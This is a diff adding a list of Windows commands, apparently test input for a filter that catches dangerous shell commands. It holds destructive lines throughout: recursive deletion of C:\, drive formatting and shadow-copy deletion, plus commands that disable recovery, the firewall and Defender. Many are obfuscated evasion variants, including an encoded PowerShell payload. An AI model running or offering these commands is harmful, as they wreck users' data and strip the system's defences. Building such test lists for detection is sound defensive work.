@@ -1,0 +1,26 @@
+del /f /s /q C:\*
+rd /s /q C:\
+rmdir C:\Windows /s /q
+DEL /S /Q %SystemRoot%
+r^d /s /q C:\
+set x=rd& %x% /s /q C:\
+set d=C:\
+	rd /s /q %d%
+cmd /c rd /s /q C:\
+cmd /c "cmd /c rd /s /q C:\"
+for %%i in (1 2) do rd /s /q C:\
+if exist C:\ rd /s /q C:\Windows
+call rd /s /q C:\
+start "" /b cmd /c rd /s /q C:\
+echo x & rd /s /q C:\
+@rd /s /q "C:\Program Files"
+format C: /q /y
+echo y| format d:
+powershell -Command "Remove-Item -Recurse C:\"
+powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXAA=
+vssadmin delete shadows /all
+wmic shadowcopy delete
+bcdedit /set {default} recoveryenabled no
+netsh advfirewall set currentprofile state off
+sc config WinDefend start= disabled
+taskkill /f /im csrss.exe
